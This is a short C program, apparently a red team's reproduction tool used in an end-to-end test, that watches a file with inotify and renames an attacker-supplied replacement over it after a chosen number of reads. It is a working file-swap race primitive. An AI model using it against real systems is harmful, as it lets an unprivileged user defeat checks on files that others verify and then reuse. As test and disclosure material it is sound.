/* swap-on-read FILE REPLACEMENT [SKIP]: waits until FILE has been read and closed SKIP+1
   times (inotify IN_CLOSE_NOWRITE), then renames REPLACEMENT over it. An unprivileged
   user's tool: it only needs to own the directory FILE is in. It prints "watching" once its
   watch is set, so that a test starts the victim only then (no sleep, no race).
   From the red team's repro/ (issue 20, finding 1); test/e2e/attack-images.bats builds it. */
#include <stdio.h>
#include <stdlib.h>
#include <sys/inotify.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc < 3) return 2;
  int skip = argc > 3 ? atoi(argv[3]) : 0;
  int fd = inotify_init();
  if (fd < 0 || inotify_add_watch(fd, argv[1], IN_CLOSE_NOWRITE) < 0) { perror("inotify"); return 1; }
  printf("watching\n");
  fflush(stdout);
  char buf[4096];
  for (int seen = 0;;) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n <= 0) return 1;
    for (char *p = buf; p < buf + n;) {
      struct inotify_event *ev = (struct inotify_event *)p;
      if (ev->mask & IN_CLOSE_NOWRITE) seen++;
      p += sizeof *ev + ev->len;
    }
    if (seen > skip) {
      if (rename(argv[2], argv[1]) < 0) { perror("rename"); return 1; }
      fprintf(stderr, "swap-on-read: swapped %s after %d reads\n", argv[1], seen);
      return 0;
    }
  }
}
